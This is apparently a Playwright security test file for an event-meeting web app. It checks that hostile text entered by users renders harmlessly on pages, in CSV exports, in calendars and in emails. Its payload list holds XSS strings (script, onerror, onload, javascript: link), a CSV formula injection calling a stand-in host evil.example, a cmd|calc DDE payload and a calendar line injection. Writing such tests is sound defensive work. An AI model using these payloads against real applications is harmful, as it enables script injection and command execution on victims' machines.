import type { Page } from "@playwright/test";
import { createHostile } from "@/prisma/factories/hostile";
import { createMeeting, createParticipant, createRequest } from "@/prisma/factories/meeting";
import { createStage } from "@/prisma/factories/stage";
import { expect, locales, test } from "./fixtures";
import { mailTo } from "./mail";
import { placeAndRelease, readCalendar } from "./pages/main-job";
import { expectNotice } from "./pages/form";
import { words } from "./words";

// Each would set window.ran, if anything of it ran.
const texts = [
  `<script>window.ran=1</script>`,
  `"><img src=x onerror=window.ran=1>`,
  `</title></textarea></script><svg onload=window.ran=1>`,
  `=HYPERLINK("https://evil.example?"&A1;"open")`,
  `@SUM(1+1)*cmd|' /C calc'!A0 {name} {{7*7}} \${7*7}`,
  `-2+3; BEGIN:VEVENT\\nEND:VCALENDAR, \u202Eeert <a href="javascript:window.ran=1">`,
];

/** Everybody of an event writes what harms: half of them ask the reader, the others have a meeting with the reader. */
async function createHostileEvent() {
  const { programme, event, moderator } = await createStage();
  const place = { id: event.id, programmeId: programme.id };
  const reader = await createParticipant(place, "PL");
  const pairs = [];
  for (const text of texts) {
    const asker = await createHostile(place, text, "DE");
    const request = await createRequest(asker, reader, { subject: text, message: `${text}\n${text}` });
    const partner = await createHostile(place, text, "DE");
    await createMeeting(reader, partner, { subject: text });
    pairs.push({ text, asker, request, partner });
  }
  return { event, moderator, reader, pairs };
}

type HostileEvent = Awaited<ReturnType<typeof createHostileEvent>>;

async function expectHarmless(page: Page, address: string, shown: readonly string[]) {
  const response = await page.goto(address);
  expect(response?.status(), address).toBe(200);
  const main = page.getByRole("main");
  for (const text of shown) await expect(main.getByText(text).first(), `${text} on ${address}`).toBeAttached();
  await page.waitForFunction(() => document.readyState === "complete");
  const harm = await page.evaluate(() => ({
    ran: "ran" in window,
    handlers: document.querySelectorAll("[onerror], [onload], main script:not([nonce]), main img[src='x']").length,
    links: [...document.querySelectorAll("a")].filter((link) => /^\s*(?:javascript|data):/i.test(link.getAttribute("href") ?? "")).length,
  }));
  expect(harm, address).toEqual({ ran: false, handlers: 0, links: 0 });
}

function watchDialogs(page: Page): string[] {
  const seen: string[] = [];
  page.on("dialog", (dialog) => {
    seen.push(dialog.message());
    void dialog.dismiss();
  });
  return seen;
}

for (const locale of locales) {
  test(`hostile texts are texts on every page (${locale})`, async ({ page, signIn, open, complaints }) => {
    test.setTimeout(240_000);
    const { event, moderator, reader, pairs } = await createHostileEvent();
    const [first] = pairs;
    const dialogs = watchDialogs(page);
    const staff = await open(moderator.email);
    const staffDialogs = watchDialogs(staff);
    await placeAndRelease(staff, { locale, event: event.slug });
    const at = `/${locale}/events/${event.slug}`;
    const slugs = `left=${first?.partner.organisation.slug}&right=${first?.asker.organisation.slug}`;
    const moderation = [`registrations`, `pairing?${slugs}`, `pool`, `schedule?view=grid`, `schedule?view=list`, `versions`];

    await signIn(reader.actor.email);
    for (const address of [`${at}/partners`, `${at}/requests`, `${at}/agenda`, `${at}/agenda?scope=organisation`]) await expectHarmless(page, address, texts);
    for (const { text, partner, request } of pairs) {
      await expectHarmless(page, `${at}/partners/${partner.organisation.slug}`, [text]);
      await expectHarmless(page, `${at}/requests/${request.id}`, [text]);
    }
    for (const part of moderation) {
      const isTable = !part.startsWith("versions") && !part.startsWith("pairing?");
      await expectHarmless(staff, `/${locale}/moderation/${event.slug}/${part}`, isTable ? texts : []);
    }
    expect([...dialogs, ...staffDialogs]).toEqual([]);
    expect(complaints).toEqual([]);
  });
}

/** Cells of a CSV file: quoted, with doubled quotes, or plain. */
function cellsOf(csv: string): string[] {
  return [...csv.replace(/^\uFEFF/, "").matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)].map(([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? "");
}

async function expectHarmlessCalendar(page: Page, { event, reader }: HostileEvent) {
  await page.goto(`/en/events/${event.slug}/agenda`);
  const calendar = await readCalendar(page, { locale: "en", event: event.slug });
  const lines = calendar.trimEnd().split("\r\n");
  expect(lines.filter((line) => line === "BEGIN:VEVENT")).toHaveLength(texts.length);
  expect(lines.filter((line) => line === "END:VCALENDAR")).toHaveLength(1);
  expect(lines.filter((line) => !/^[A-Z][A-Z-]*[;:]/.test(line))).toEqual([]);
  expect(calendar).not.toContain(reader.registration.id);
}

test("hostile texts stay texts in the files that are taken along", async ({ page, signIn, open }) => {
  test.setTimeout(180_000);
  const hostile = await createHostileEvent();
  const { event, moderator, reader } = hostile;
  const staff = await open(moderator.email);
  await placeAndRelease(staff, { locale: "en", event: event.slug });
  const answer = await staff.request.get(`/en/moderation/${event.slug}/registrations/export`);
  expect(answer.headers()["content-type"]).toContain("text/csv");
  const cells = cellsOf(await answer.text());
  expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  for (const text of texts) expect(cells.filter((cell) => cell.replace(/^'/, "") === text).length, text).toBeGreaterThanOrEqual(6);

  await signIn(reader.actor.email);
  await expectHarmlessCalendar(page, hostile);
});

test("hostile texts stay texts in mails", async ({ page, open }) => {
  test.setTimeout(180_000);
  const { programme, event } = await createStage();
  const place = { id: event.id, programmeId: programme.id };
  const reader = await createHostile(place, "A reader", "PL");
  for (const text of texts) {
    const asker = await createHostile(place, text, "DE");
    const writer = await open(asker.actor.email);
    await writer.goto(`/en/events/${event.slug}/ask/${reader.organisation.slug}`);
    await writer.getByRole("radio", { name: words("en", "RequestForm.own"), exact: true }).check();
    await writer.getByLabel(words("en", "RequestForm.ownSubject"), { exact: true }).fill(text);
    await writer.getByLabel(words("en", "RequestForm.message"), { exact: true }).fill(text);
    await writer.getByRole("button", { name: words("en", "AskPage.submit") }).click();
    await expectNotice(writer, "en", "request_sent");
    // Whoever is told reads the organisation's name and the subject; both are hostile.
    const mail = await mailTo(reader.registration.email, text);
    await page.setContent(mail.html);
    await expect(page.getByText(text).first()).toBeVisible();
    const harm = await page.evaluate(() => ({ ran: "ran" in window, found: document.querySelectorAll("script, svg, img, [onerror], [onload], a:not([href^='http'])").length }));
    expect(harm, text).toEqual({ ran: false, found: 0 });
  }
});
